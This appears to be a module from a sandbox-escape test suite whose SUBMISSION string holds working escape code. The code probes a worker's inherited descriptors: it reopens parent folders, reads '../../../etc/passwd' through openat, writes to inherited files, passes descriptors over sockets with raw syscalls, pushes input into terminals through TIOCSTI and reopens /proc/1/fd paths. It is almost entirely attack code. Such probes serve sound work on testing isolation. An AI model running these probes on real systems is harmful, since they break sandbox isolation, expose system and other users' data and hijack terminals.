"""Use what the worker was started with: files and folders left open, sockets that carry descriptors, terminals.

Success: a descriptor that leads further than the two pipes, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r'''
import fcntl
import stat
import struct

ALL = range(1024)
AT_START = {}
OPENAT, FTRUNCATE, SENDMSG, RECVMSG, PREAD = 257, 77, 46, 47, 17


def kinds():
    """Open descriptors by their kind, as they were before anything was tried."""
    if not AT_START:
        AT_START.update(each(os.fstat, ALL))
    return AT_START


def a_folder():
    folders = [fd for fd, s in kinds().items() if stat.S_ISDIR(s.st_mode)]
    return each(lambda fd: os.open("..", os.O_RDONLY, dir_fd=fd), folders)


def any_relative_path():
    return each(lambda fd: kernel(OPENAT, fd, b"../../../etc/passwd", 0), kinds())


def a_file_with_something_in_it():
    files = [fd for fd, s in kinds().items() if stat.S_ISREG(s.st_mode)]
    return {fd: text for fd, text in each(lambda fd: os.pread(fd, 1000, 0), files).items() if text}


def a_file_to_write():
    files = [fd for fd, s in kinds().items() if stat.S_ISREG(s.st_mode)]
    return each(lambda fd: os.pwrite(fd, b"here", os.fstat(fd).st_size), files)


def a_block_device():
    return [fd for fd, s in kinds().items() if stat.S_ISBLK(s.st_mode)]


def a_socket_that_sends_descriptors():
    rights = struct.pack("<QiiI", 20, 1, 1, 0) + bytes(4)
    text = ctypes.create_string_buffer(b"x")
    part = struct.pack("<QQ", ctypes.addressof(text), 1)
    parts, control = ctypes.create_string_buffer(part), ctypes.create_string_buffer(rights)
    head = struct.pack("<QIIQQQQII", 0, 0, 0, ctypes.addressof(parts), 1, ctypes.addressof(control), 24, 0, 0)
    return each(lambda fd: kernel(SENDMSG, fd, head, 0x4040), kinds())


def a_socket_that_brings_descriptors():
    text, control = ctypes.create_string_buffer(64), ctypes.create_string_buffer(256)
    parts = ctypes.create_string_buffer(struct.pack("<QQ", ctypes.addressof(text), 64))
    head = struct.pack("<QIIQQQQII", 0, 0, 0, ctypes.addressof(parts), 1, ctypes.addressof(control), 256, 0, 0)
    return each(lambda fd: kernel(RECVMSG, fd, head, 0x40) + 1, kinds())


def a_terminal():
    return each(lambda fd: fcntl.ioctl(fd, 0x5412, b"x"), kinds()) or [fd for fd in kinds() if os.isatty(fd)]


def a_controlling_terminal():
    return each(lambda fd: fcntl.ioctl(fd, 0x540E, 1), kinds())


def signals_when_data_comes():
    """A pipe may tell a process of our choice that data has come."""
    return each(lambda fd: [fcntl.fcntl(fd, fcntl.F_SETOWN, who) for who in (1, -1, os.getppid())], kinds())


def news_of_folders():
    folder = os.open("/", os.O_RDONLY)
    return fcntl.fcntl(folder, 1026, 0x80000000 | 0x3F) == 0


def wrong_ends_of_the_pipes():
    """Reading what the worker writes, or another worker's pipe, gives other people's data."""
    pipes = [fd for fd, s in kinds().items() if stat.S_ISFIFO(s.st_mode)]
    return [fd for fd in pipes if len(pipes) > 2] or [
        fd for fd in pipes if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDWR
    ]


def named_by_a_path():
    paths = [f"{top}/{fd}" for top in ("/dev/fd", "/proc/self/fd", "/proc/1/fd") for fd in range(20)]
    return each(lambda path: os.open(path, os.O_RDWR), paths)


WAYS = [
    a_folder, any_relative_path, a_file_with_something_in_it, a_file_to_write, a_block_device,
    a_socket_that_sends_descriptors, a_socket_that_brings_descriptors, a_terminal, a_controlling_terminal,
    signals_when_data_comes, news_of_folders, wrong_ends_of_the_pipes, named_by_a_path,
]
'''
)
